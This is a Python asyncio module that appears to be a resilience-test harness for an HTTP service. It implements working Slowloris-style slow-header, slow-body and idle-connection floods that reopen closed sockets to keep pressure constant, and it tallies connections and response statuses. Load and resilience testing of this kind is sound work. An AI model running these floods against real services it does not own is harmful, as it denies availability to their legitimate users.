"""Clients that take their time: they hold connections with headers, bodies and silence that never end (H-1, H-2, H-11).

Plain sockets, nothing of ours. What the service closes is opened again at once, so that the pressure stays the same.
"""

import asyncio
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from time import monotonic
from typing import Final, TypeAlias

_BYTE_EVERY: Final = 0.5
_PATIENCE: Final = 5.0
_BREATH: Final = 0.05

Dribble: TypeAlias = Callable[[asyncio.StreamWriter], Awaitable[None]]


@dataclass(slots=True)
class Held:
    """What came of an attack.

    Attributes:
        opened: connections made, those that were made again included.
        refused: connections that could not be made.
        closed: connections that the service ended.
        longest: seconds that one connection lived, while it never finished a request.
        statuses: answers by their status.
    """

    opened: int = 0
    refused: int = 0
    closed: int = 0
    longest: float = 0.0
    statuses: Counter[int] = field(default_factory=Counter)


async def slow_headers(host: str, port: int, connections: int, seconds: float) -> Held:
    """Holds connections with a header that gets one byte twice a second and never ends."""

    async def dribble(writer: asyncio.StreamWriter) -> None:
        writer.write(b"GET /health HTTP/1.1\r\nHost: slow\r\nX-Slow: ")
        await _a_byte_at_a_time(writer)

    return await _held(host, port, connections, seconds, dribble)


async def slow_bodies(host: str, port: int, connections: int, seconds: float, *, path: str = "/auth/login") -> Held:
    """Holds connections with a body that gets one byte twice a second and never ends; the path must read it."""
    head = f"POST {path} HTTP/1.1\r\nHost: slow\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"

    async def dribble(writer: asyncio.StreamWriter) -> None:
        writer.write(head.encode())
        await _a_byte_at_a_time(writer)

    return await _held(host, port, connections, seconds, dribble)


async def idle(host: str, port: int, connections: int, seconds: float) -> Held:
    """Holds connections that asked once, and then say nothing more."""

    async def dribble(writer: asyncio.StreamWriter) -> None:
        writer.write(b"GET /health HTTP/1.1\r\nHost: idle\r\n\r\n")
        await writer.drain()
        await asyncio.Event().wait()

    return await _held(host, port, connections, seconds, dribble)


async def _a_byte_at_a_time(writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(_BYTE_EVERY)


async def _held(host: str, port: int, connections: int, seconds: float, dribble: Dribble) -> Held:
    held = Held()
    end = monotonic() + seconds
    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(_slot(host, port, dribble, held, end))
    return held


async def _slot(host: str, port: int, dribble: Dribble, held: Held, end: float) -> None:
    """One of the connections; again and again until the time is over."""
    while (left := end - monotonic()) > 0:
        try:
            async with asyncio.timeout(_PATIENCE):
                reader, writer = await asyncio.open_connection(host, port)
        except (OSError, TimeoutError):
            held.refused += 1
            await asyncio.sleep(min(_BYTE_EVERY, left))
            continue
        held.opened += 1
        began = monotonic()
        try:
            async with asyncio.timeout_at(asyncio.get_running_loop().time() + max(0.0, end - monotonic())):
                await _until_closed(reader, writer, dribble, held)
            held.closed += 1
        except TimeoutError:
            pass
        finally:
            held.longest = max(held.longest, monotonic() - began)
            writer.close()
            with suppress(OSError):
                await writer.wait_closed()
        await asyncio.sleep(_BREATH)


async def _until_closed(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, dribble: Dribble, held: Held
) -> None:
    """Dribbles until the other end closes, and notes what it answered before."""

    async def sending() -> None:
        with suppress(OSError):
            await dribble(writer)

    sender = asyncio.create_task(sending())
    try:
        while line := await reader.readline():
            words = line.split()
            if line.startswith(b"HTTP/1.") and len(words) > 1 and words[1].isdigit():
                held.statuses[int(words[1])] += 1
    except (OSError, ValueError):
        pass
    finally:
        sender.cancel()
        with suppress(asyncio.CancelledError):
            await sender
